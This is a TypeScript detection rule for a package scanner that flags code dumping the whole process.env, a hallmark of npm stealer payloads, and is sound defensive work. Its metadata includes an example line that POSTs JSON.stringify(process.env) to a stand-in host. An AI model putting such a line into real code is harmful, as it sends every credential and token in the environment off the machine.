import type { JsRule } from '../engine.js';
import type { Node } from '../parse.js';
import { calleeName, isProcessEnv, js } from './helpers.js';

const SERIALISERS = new Set([
  'JSON.stringify',
  'Object.keys',
  'Object.values',
  'Object.entries',
  'Object.assign',
  'querystring.stringify',
  'qs.stringify',
  'Buffer.from',
  'util.inspect',
]);

/** Flags code that collects the whole environment (all variables, hence every secret in it). */
export const envDump: JsRule = {
  meta: {
    ...js,
    id: 'JS-003',
    name: 'environment-dump',
    category: 'credential-theft',
    severity: 'medium',
    confidence: 'medium',
    description:
      'Code serialises or enumerates the whole `process.env` (JSON.stringify, Object.entries, for-in, sent as a value).',
    rationale:
      'CI tokens, cloud keys and npm tokens live in environment variables; dumping all of them is the core of most dependency-confusion and stealer payloads.',
    falsePositives:
      "Config loaders that copy `process.env` into a child process's env (`{...process.env, X: 1}`) are not flagged; debugging helpers that print the environment are.",
    example: "fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
    references: [
      'https://jfrog.com/blog/malicious-npm-packages-are-after-your-discord-tokens-17-new-packages-disclosed/',
    ],
  },
  create(ctx) {
    return {
      CallExpression(node: Node) {
        const name = calleeName(ctx, node);
        if (!name || !SERIALISERS.has(name)) return;
        const idx = name === 'Object.assign' ? 1 : 0;
        if (!isProcessEnv(ctx, node.arguments[idx])) return;
        ctx.facts.capabilities.add('env-dump');
        // Serialising the environment is rarely needed; enumerating or copying it is common
        // (filters, child-process env). Whether it leaves the machine is JS-010's job.
        const serialises = /stringify|inspect|Buffer\.from/.test(name);
        ctx.report({
          node,
          message: `${serialises ? 'Serialises' : 'Enumerates'} every environment variable with ${name}(process.env).`,
          severity: serialises ? 'medium' : 'low',
          confidence: serialises ? 'medium' : 'low',
          evidence: { via: name },
        });
      },
      ForInStatement(node: Node) {
        if (!isProcessEnv(ctx, node.right)) return;
        ctx.facts.capabilities.add('env-dump');
        ctx.report({
          node,
          message: 'Iterates over every environment variable (for...in process.env).',
          severity: 'low',
          confidence: 'low',
          evidence: { via: 'for-in' },
        });
      },
      Property(node: Node) {
        // `{ env: process.env }` inside a request body / payload object, but not spawn options.
        if (!isProcessEnv(ctx, node.value) || node.key?.name === 'env') return;
        ctx.facts.capabilities.add('env-dump');
        ctx.report({
          node,
          message: 'Puts the whole process.env into an object (a payload).',
          severity: 'medium',
          confidence: 'low',
          evidence: { via: 'property' },
        });
      },
    };
  },
};
